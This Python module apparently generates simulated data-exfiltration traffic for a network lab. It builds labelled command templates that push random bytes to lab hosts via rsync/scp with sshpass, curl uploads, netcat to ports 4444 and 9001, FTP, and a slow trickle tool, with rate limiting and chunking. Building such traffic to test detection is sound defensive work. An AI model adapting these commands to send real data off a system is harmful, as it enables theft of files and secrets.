# SPDX-License-Identifier: Apache-2.0
"""Data carried out by rsync, scp, ssh, curl, nc, ftp and the program `whisper`: 0.3 to 30 MB at once, in pieces, or in a trickle."""

from __future__ import annotations

from random import Random

from lab import accounts
from lab.scenarios.attack.targets import far_end, far_place, ip_version, outward
from lab.scenarios.scenario import TCP, Attack, AttackDraft, Scene, bracketed

_MOST_BYTES = 30_000_000


def _amount(scene: Scene, chance: Random) -> int:
    wire = scene.host.wire.rate_mbit if scene.host.wire else 100.0
    most = min(_MOST_BYTES, int(wire * 125_000 * 25), 1_500_000 if scene.gentle else _MOST_BYTES)
    return max(300_000, min(int(chance.lognormvariate(15.0, 1.1)), most))


def _draft(
    scene: Scene, tool: str, technique: str, script: str, version: int, where: str, port: int, limit: int = 85
) -> AttackDraft:
    return AttackDraft("exfiltration", tool, technique, script, limit, outward(scene, version, where, TCP, port))


def leak_rsync(scene: Scene, chance: Random) -> AttackDraft | None:
    far = far_place(scene, chance, "sshd")
    if far is None:
        return None
    where, version, _ = far
    total, files = _amount(scene, chance), chance.choice((1, 5, 40))
    user, password = accounts.PEOPLE[5]
    rate = chance.choice(("", "", "--bwlimit=300", "--bwlimit=2000"))
    make = f"mkdir -p /tmp/l$$; for n in $(seq {files}); do head -c {total // files} /dev/urandom > /tmp/l$$/$n; done"
    there = f"{user}@{bracketed(where)}"
    port = scene.network.ssh_port
    copy = chance.choice(
        (
            f"rsync -a {rate} {chance.choice(('', '-z'))} -e 'ssh -p {port}' /tmp/l$$ {there}:",
            f"scp -r -q -P {port} /tmp/l$$ {there}:",
            f"ssh -p {port} {there} 'cat > x.tar' < <(tar c -C /tmp l$$)",
        )
    )
    return _draft(
        scene,
        copy.split()[0],
        f"bytes={total}; files={files}; {rate}",
        f"{make}; sshpass -p '{password}' {copy}; rm -rf /tmp/l$$",
        version,
        where,
        port,
    )


def leak_curl(scene: Scene, chance: Random) -> AttackDraft | None:
    """One large PUT, or many posts down one connection, or each in its own."""
    far = far_place(scene, chance, "webapp")
    if far is None:
        return None
    where, version, _ = far
    tls, net = chance.random() < 0.75, scene.network
    port, total = net.tls_port if tls else net.web_port, _amount(scene, chance)
    url = f"http{'s' if tls else ''}://{bracketed(where)}:{port}/app/upload"
    rate = chance.choice(("", "", "--limit-rate 200k", "--limit-rate 1500k"))
    quiet, pieces = f"curl -g -k -s {rate} --max-time 75", chance.choice((1, 1, 4, 15))
    make = f"head -c {total // pieces} /dev/urandom > /tmp/l$$\n"
    way = chance.choice(("kept", "fresh"))
    if way == "kept":
        script = make + f"{quiet} " + " ".join([f"-T /tmp/l$$ -o /dev/null '{url}'"] * pieces)
    else:
        script = (
            make
            + f"for n in $(seq {pieces}); do {quiet} -o /dev/null -F f=@/tmp/l$$ '{url}'; sleep {chance.choice((0, 0.5, 3))}; done"
        )
    return _draft(scene, "curl", f"{way}; bytes={total}; pieces={pieces}; {rate}", script, version, where, port)


def leak_nc(scene: Scene, chance: Random) -> AttackDraft | None:
    far = far_place(scene, chance, "sink")
    if far is None:
        return None
    where, version, _ = far
    total, port = _amount(scene, chance), chance.choice((4444, 9001))
    rate = chance.choice((0, 0, 20_000, 200_000))  # bytes a second
    if rate:
        total = min(total, rate * 60)
        pieces = max(1, total // (rate // 4))
        source = f"for n in $(seq {pieces}); do head -c {rate // 4} /dev/urandom; sleep 0.25; done"
    else:
        source = f"head -c {total} /dev/urandom"
    coded = chance.choice(("", "| base64", "| gzip -1"))
    return _draft(
        scene,
        "nc",
        f"bytes={total}; rate={rate}; {coded}",
        f"({source}) {coded} | nc -N -w 10 {where} {port} > /dev/null",
        version,
        where,
        port,
    )


def leak_whisper(scene: Scene, chance: Random) -> AttackDraft | None:
    """A trickle: one connection over which a piece goes now and then."""
    way = chance.choice(("trickle-web", "trickle-web", "trickle"))
    far = far_place(scene, chance, "webapp" if way == "trickle-web" else "sink")
    if far is None:
        return None
    where, version, _ = far
    tls, net = way == "trickle-web" and chance.random() < 0.7, scene.network
    port = (net.tls_port if tls else net.web_port) if way == "trickle-web" else chance.choice((4444, 9001))
    piece, pause = chance.choice(((600, 0.05), (4000, 0.2), (15_000, 0.1), (60_000, 1.0), (1200, 0.02)))
    seconds = chance.randint(35, 100)
    words = f"{way} {where} {port} {'--tls' if tls else ''} --bytes {min(int(piece / pause * seconds), _MOST_BYTES)} --size {piece} --pause {pause} --jitter {chance.choice((0, 0.4))} --bell --seconds {seconds}"
    return _draft(
        scene,
        "whisper",
        f"{way}; piece={piece}; pause={pause}",
        scene.program("whisper", chance, words),
        version,
        where,
        port,
        seconds + 6,
    )


def leak_ftp(scene: Scene, chance: Random) -> AttackDraft | None:
    """By FTP's two connections, to whoever of the outside offers it."""
    end = far_end(scene, chance, "vsftpd")
    if end is None:
        return None
    version, total = ip_version(chance), _amount(scene, chance)
    user, password = accounts.PEOPLE[5]
    where = scene.address(end, version)
    script = f"head -c {total} /dev/urandom | curl -g -s -o /dev/null --max-time 75 -u '{user}:{password}' -T - 'ftp://{bracketed(where)}/x{chance.randrange(99)}'"
    return AttackDraft(
        "exfiltration", "curl", f"ftp; bytes={total}", script, 85, outward(scene, version, where, TCP, None)
    )


ATTACKS = (
    Attack("leak-rsync", leak_rsync, inside=True, weight=3, group="exfiltration"),
    Attack("leak-curl", leak_curl, inside=True, weight=4, group="exfiltration"),
    Attack("leak-nc", leak_nc, inside=True, weight=3, group="exfiltration"),
    Attack("leak-whisper", leak_whisper, inside=True, weight=4, group="exfiltration"),
    Attack("leak-ftp", leak_ftp, inside=True, weight=2, group="exfiltration"),
)
